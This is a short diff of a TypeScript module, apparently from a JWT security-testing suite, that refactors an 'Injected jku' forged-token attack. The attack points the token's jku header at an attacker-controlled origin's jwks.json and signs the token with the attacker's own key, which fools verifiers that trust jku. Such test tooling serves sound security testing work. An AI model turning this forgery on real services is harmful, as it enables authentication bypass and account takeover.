@@ -7,7 +7,7 @@ import { forgerHas, noTokenToForge, present } from '../attacker/forged-token';
 import { LIBRARIES_TAKE_NO_KEY, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
 import type { AttackUnit } from '../attacker/attack';
 
-const attack: AttackUnit = {
+export default {
   order: 45,
   group: 'forged tokens',
   label: 'Injected jku',
@@ -26,6 +26,4 @@ const attack: AttackUnit = {
     const header = withParameters(has.header, { alg, kid, jku: `${ATTACKER_ORIGIN}/jwks.json` });
     await present(hands, [{ compact: await sign(header, has.payload, alg, has.own.privateKey) }]);
   },
-};
-
-export default attack;
+} satisfies AttackUnit;
